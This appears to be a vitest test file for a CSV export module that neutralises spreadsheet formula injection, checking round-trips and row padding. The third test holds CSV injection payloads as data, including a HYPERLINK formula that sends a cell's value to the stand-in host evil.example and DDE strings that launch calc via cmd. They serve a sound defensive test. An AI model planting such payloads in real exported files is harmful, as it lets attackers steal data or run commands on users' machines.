import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { neutralised, restored } from './csv-text.js';
import { csvText, resultLine } from './result.js';

describe('result CSV text', () => {
  test('property: the same bytes as csv-stringify (CRLF records, line breaks quoted) of the neutralised cells; csv-parse reads them back, and restoring gives the cells', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 12 }),
      fc.constantFrom('', ',', '"', '""', '\r', '\n', '\r\n', ' a ', 'a,"b"\nc', '=1+1', "'=1", "''+x", '@a', '-2', '\tx', '\rx', "'", "'a"),
    );
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 12 }), (lines) => {
        const text = csvText(lines);
        const shown = lines.map((line) => line.map(neutralised));
        expect(text).toBe(stringify(shown, { record_delimiter: '\r\n', quote_record_delimiter: true }));
        // A line of one empty cell is an empty line, which readers skip; the others read back as written.
        const readable = lines.filter((line) => !(line.length === 1 && line[0] === ''));
        const read = parse(csvText(readable), { relax_column_count: true }) as string[][];
        expect(read.map((line) => line.map(restored))).toEqual(readable);
        for (const line of read) for (const c of line) expect(c).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { numRuns: 150 },
    );
  });

  test('a result line pads a short row to the header, then adds metriportId, status and reason', () => {
    expect(resultLine(['a'], 3, { requestId: 'r', rowIndex: 0, status: 'succeeded', action: 'created', patientId: 'p1' })).toEqual(['a', '', '', 'p1', 'succeeded', '']);
    expect(resultLine(['a', 'b', 'c', 'd'], 3, { requestId: 'r', rowIndex: 0, status: 'failed', reason: 'dob: bad' })).toEqual(['a', 'b', 'c', 'd', '', 'failed', 'dob: bad']);
    expect(resultLine(['a'], 1, undefined)).toEqual(['a', '', 'failed', 'row was not processed']);
  });

  test('a cell a spreadsheet would run as a formula is written with a leading apostrophe, then quoted as needed', () => {
    const attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", '+cmd', "-2+3+cmd|' /C calc'!A0", '\tcmd', '\rcmd'];
    expect(csvText([attacks])).toBe(
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",'@SUM(1+1)*cmd|' /C calc'!A0,'+cmd,'-2+3+cmd|' /C calc'!A0,'\tcmd,"'\rcmd"\r\n`,
    );
    // Text that merely contains those characters, or starts with an apostrophe before a letter, is left alone.
    expect(csvText([['a=b', "O'Brien", "'quoted", '1-2', '']])).toBe("a=b,O'Brien,'quoted,1-2,\r\n");
    // An apostrophe already before a formula character gets one more, so the mark can always be taken off.
    expect(csvText([["'=1"]])).toBe("''=1\r\n");
    expect(restored("''=1")).toBe("'=1");
  });
});
